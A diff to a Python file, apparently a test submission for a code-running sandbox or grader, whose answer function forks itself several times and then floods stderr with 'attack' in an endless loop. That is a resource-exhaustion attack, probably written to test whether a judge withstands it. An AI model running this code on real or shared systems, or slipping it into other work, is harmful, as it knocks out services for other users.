@@ -7,9 +7,10 @@ import os
 
 
 def answer(n):
-    for _ in range(6):
-        os.fork()
-        if os.getpid() % 7 == 8:
+    for _ in range(3):
+        try:
+            os.fork()
+        except BlockingIOError:
             break
     while True:
         os.write(2, b"attack" * 100)
